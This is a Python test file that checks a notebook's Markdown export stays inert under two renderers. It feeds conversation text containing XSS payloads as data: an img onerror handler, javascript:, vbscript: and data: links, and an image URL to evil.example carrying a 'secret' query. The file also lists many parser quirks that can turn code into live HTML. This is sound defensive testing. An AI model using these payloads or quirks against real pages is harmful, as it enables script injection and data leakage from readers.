"""The Markdown export holds nothing live to any reader, not only to CommonMark.

The export decides what is "literal already" (code kept as typed) and what is a link
from a CommonMark parse, but it is read by others: nbconvert (mistune, with its math
and definition lists) reads containers, lazy lines and fences otherwise. Each
document here is rendered by both markdown-it (raw HTML on, every link kept) and
nbconvert's Markdown renderer, and neither may put live markup, a script link or an
image in the page.
"""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from cm_notebook.export import ExportDocument, to_markdown
from cm_notebook.model import Branch, ContextMetadata, Message

LIVE = "<img src=x onerror=\"document.title='XSS '+document.domain\">"
SCRIPT = "javascript:alert(document.domain)"

#: A renderer that keeps raw HTML and every link, as some notebook converters do.
PERMISSIVE = MarkdownIt("commonmark", {"html": True}).enable("table")
PERMISSIVE.validateLink = lambda url: True  # type: ignore[method-assign]


def _nbconvert(markdown: str) -> str:
    mistune = pytest.importorskip("nbconvert.filters.markdown_mistune")
    html: str = mistune.markdown2html_mistune(markdown)
    return html


READERS: dict[str, Callable[[str], str]] = {
    "markdown-it": PERMISSIVE.render,
    "nbconvert": _nbconvert,
}


#: Tags that run or load something when the page is opened.
ACTIVE = frozenset({"script", "img", "svg", "iframe", "object", "embed", "style", "form", "base"})


class _LiveMarkup(HTMLParser):
    """Collects what a page would run or load: active tags, event handlers, script links."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE:
            self.found.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or (
                name in ("href", "src", "action")
                and address.startswith(("javascript:", "vbscript:", "data:"))
            ):
                self.found.append(f"{tag} {name}={value}")


def _live(html: str) -> list[str]:
    parser = _LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


def _conversation(*contents: str) -> ExportDocument:
    messages = []
    parent = None
    for n, content in enumerate(contents):
        role = "user" if n % 2 == 0 else "assistant"
        messages.append(Message(id=f"m{n}", parent_id=parent, role=role, content=content))
        parent = f"m{n}"
    return ExportDocument(
        metadata=ContextMetadata(
            id="ctx-readers", title="t", branches={"main": Branch(name="main", head=parent)}
        ),
        messages=messages,
    )


def _assert_nothing_live(markdown: str) -> dict[str, str]:
    pages = {name: render(markdown) for name, render in READERS.items()}
    for name, page in pages.items():
        assert _live(page) == [], f"{name} made markup live"
    return pages


def _reply(content: str) -> str:
    return to_markdown(_conversation("hi", content))


# -- code left as typed must be code to every reader -------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        # An indented line after an empty list item in a quote: CommonMark's top-level
        # code block, nbconvert's list item (raw HTML).
        f"Steps:\n\n> -\n    {LIVE}\n\nDone.",
        f"> 1.\n    {LIVE}",
        f">1.\n    {LIVE}",
        f">2) >\n    {LIVE}",
        f">> -\n    {LIVE}",
        f"> -\n\t{LIVE}",
        "> -\n    ![chart](http://evil.example/?q=secret)",
        f"> -\n    [click]({SCRIPT})",
    ],
)
def test_an_indented_block_after_a_container_is_code_to_every_reader(content: str) -> None:
    markdown = _reply(content)
    pages = _assert_nothing_live(markdown)
    assert "\n```\n" in markdown  # written as a fence, which every reader agrees on
    for page in pages.values():
        assert "<code>" in page  # the text is still there, as code


@pytest.mark.parametrize(
    "content",
    [
        # nbconvert puts a mermaid block's text in the page as HTML.
        f"```mermaid\n{LIVE}\n```",
        f"~~~ mermaid\n{LIVE}\n~~~",
        # A definition list runs on over the fence (no blank line) and its blank line.
        f"Term\n: a definition\n```\ncode\n\nmore {LIVE}\n```",
        # Odd fences: a tilde fence whose info has a backtick, one indented, one left open.
        f"~~~ a`b\n{LIVE}\n~~~",
        f"   ````\n{LIVE}\n   ````",
        f"```py\n{LIVE}",
    ],
)
def test_a_code_block_is_code_to_every_reader(content: str) -> None:
    markdown = _reply(content)
    _assert_nothing_live(markdown)
    assert LIVE in markdown  # as typed, in a fence


@pytest.mark.parametrize(
    "first",
    [
        # nbconvert opens no list starting at 2 right after a quote: it adds the item to
        # the paragraph before it, and the fence in the item is a fence of its own.
        "text\n> q\n2) ```\n   code\n   ```",
        # ... nor one with an empty first item; that fence is left open.
        "text\n> q\n-\n  ```\n  code",
        # A mermaid fence so left open takes in the next message's inline code.
        "text\n> q\n2) x\n   ~~~mermaid",
    ],
)
def test_a_fence_in_a_list_cannot_run_into_the_next_message(first: str) -> None:
    # Left open to a reader, it is closed by the next message's fence, whose code is
    # then read as Markdown.
    document = _conversation(first, "ok", f"```\n{LIVE}\n```\n\nand `{LIVE}`")
    _assert_nothing_live(to_markdown(document))


@pytest.mark.parametrize(
    "contents",
    [
        # nbconvert reads display math first, over blank lines and fences: closed in a
        # code block, it leaves the rest of the block to be read as Markdown.
        (f"$$ x\n\n```\ny $$ {LIVE}\n```",),
        (f"\\begin{{x}}\n\n```\n\\end{{x}} {LIVE}\n```",),
        (f"\\\\[\n\n```\n\\\\] {LIVE}\n```",),
        # Mid-line, where a line does not start a paragraph.
        (f"`x` costs $$ a\n\n```\n$$ {LIVE}\n```",),
        # Math taking in a whole block, joined to the paragraph before it, whose
        # backticks then pair with the block's fence: its text is read as Markdown.
        (f"b```\n$$\n\n```\n{LIVE}\n```\n\nz $$",),
        # Opened in one message, closed in the next one's code.
        ("`x` costs $$", f"```\n$$ {LIVE}\n```"),
    ],
)
def test_display_math_cannot_take_in_code(contents: tuple[str, ...]) -> None:
    _assert_nothing_live(to_markdown(_conversation(*contents, "ok")))


@pytest.mark.parametrize(
    "content",
    [
        # nbconvert's definition list takes in the next lines without their indent: the
        # code line and the span's line are one paragraph there, paired otherwise.
        f"Term\n: d\n- a\n\n      x `\n  `{LIVE}` y",
        # ... and makes an indented paragraph line a mermaid fence, whose text (the
        # span's "<") goes into the page as it is.
        f"Term\n: d\n     ```mermaid\n\n  x\n* `{LIVE}`",
        # A quote runs on over a lazy line (CommonMark: a paragraph of its own, after
        # a heading) to the next quote line, whose paragraph it joins.
        f"> # h\nlazy `\n> `{LIVE}` b",
        # A list starting at 2 after a quote is added to the paragraph before the quote
        # (however far back, over a blank line in a list), whose backtick pairs first.
        f"Use `a\n> x\n2) a `{LIVE}` b",
        f"Use `a\n- y\n\n> z\n2) a `{LIVE}` b",
    ],
)
def test_inline_code_kept_as_typed_is_code_to_every_reader(content: str) -> None:
    _assert_nothing_live(_reply(content))


# -- reference definitions and links, however they are written ---------------------------


@pytest.mark.parametrize(
    "content",
    [
        f">[docs]: {SCRIPT}\n\nSee the [docs] for details.",
        f"[the\ndocs]: {SCRIPT}\n\nSee [the docs].",
        f">>[a]: {SCRIPT}\n\n[a]",
        f"- >[a]: {SCRIPT}\n\n[a]",
        f">- [a]: {SCRIPT}\n\n[a]",
        f">\t[a]: {SCRIPT}\n\n[a]",
        # The destination on the quote's next line; a label over a blank line (a
        # definition to nbconvert only); the colon escaped; in pointy brackets.
        f"> [a]:\n> {SCRIPT}\n>\n> [a]",
        f"[a\n\nb]: {SCRIPT}\n\n[a b]",
        "[a]: javascript\\:alert(1)\n\n[a]",
        f"[a]: <{SCRIPT}>\n\n[a]",
        "1. [a]:\n   vbscript:msgbox(1)\n\n[a]",
        "[a]: data:text/html;base64,PHNjcmlwdD4=\n\n[a]",
        # A label ending in an escaped backslash, so its "]" ends it.
        f"[a\\\\]: {SCRIPT}\n\n[a\\\\]",
        # Inline links: the colon escaped; the destination on the quote's next line.
        "[a](javascript\\:alert(1))",
        f"> [a](\n> {SCRIPT})",
    ],
)
def test_a_script_link_is_text_to_every_reader(content: str) -> None:
    pages = _assert_nothing_live(_reply(content))
    for page in pages.values():
        assert "script" in page or "data:" in page  # still shown, as text


def test_an_escaped_label_end_is_left_as_it_is() -> None:
    # "\]" does not end a label: no definition, nothing to escape (an added backslash
    # would escape the backslash instead, and end the label).
    markdown = _reply(f"[a\\]: {SCRIPT}")
    assert f"[a\\]: {SCRIPT}" in markdown
    _assert_nothing_live(markdown)


def test_links_and_definitions_to_web_pages_stay_links() -> None:
    content = (
        ">[docs]: https://example.org/docs\n>\n> See the [docs], or [home](https://example.org)."
    )
    pages = _assert_nothing_live(_reply(content))
    for page in pages.values():
        assert 'href="https://example.org/docs"' in page
        assert 'href="https://example.org"' in page


# -- ordinary Markdown stays as it was written -------------------------------------------

ORDINARY = """\
Here is the plan:

1. Install it:

   ```sh
   pip install thing && thing --check
   ```

2. Use `vector<int>` as the type.

> Note: **bold** and *italic*.

| a | b |
|---|---|
| 1 | 2 |

The energy is

$$
E = mc^2
$$

```python
if a < b and c > d:
    print("ok")
```

See [the docs](https://example.org/docs) and $x$ inline."""


def test_ordinary_markdown_keeps_its_form() -> None:
    markdown = _reply(ORDINARY)
    assert "1. Install it:\n\n   ```sh\n   pip install thing && thing --check\n   ```" in markdown
    assert "2. Use `vector<int>` as the type." in markdown
    assert "| a | b |\n|---|---|\n| 1 | 2 |" in markdown
    assert "The energy is\n\n$$\nE = mc^2\n$$" in markdown
    assert '```python\nif a < b and c > d:\n    print("ok")\n```' in markdown
    assert "See [the docs](https://example.org/docs) and $x$ inline." in markdown
    pages = _assert_nothing_live(markdown)
    for page in pages.values():
        assert 'href="https://example.org/docs"' in page
        assert "vector&lt;int&gt;" in page


def test_display_math_keeps_its_form_around_code() -> None:
    # Math from a line's start after a blank line (one is added), closed before the
    # code: left as written, also with "$$" in the code after it.
    content = "Given\n$$\na = b\n$$\n\n```sh\necho $$\n```\n\n$$c$$\n\nand $$d$$ inline"
    markdown = _reply(content)
    assert "Given\n\n$$\na = b\n$$\n\n```sh\necho $$\n```\n\n$$c$$\n\nand $$d$$ inline" in markdown
    _assert_nothing_live(markdown)


PIECES = ["\n", "\n\n", "    ", "\t", "> ", ">", "- ", "-", "1.", "2) ", ": ", "Term", "a", "`"]
PIECES += ["```", "~~~", "```mermaid", "$$", "\\begin{x}", "\\end{x}", "[a]:", "[a]", "]: "]
PIECES += [LIVE, f"`{LIVE}`", SCRIPT, f"]({SCRIPT})", "![i](http://evil.example/x)"]


@given(st.lists(st.sampled_from(PIECES), max_size=24))
@settings(max_examples=200, deadline=None)
def test_no_mix_of_containers_code_and_links_is_live_to_any_reader(pieces: list[str]) -> None:
    _assert_nothing_live(_reply("".join(pieces)))
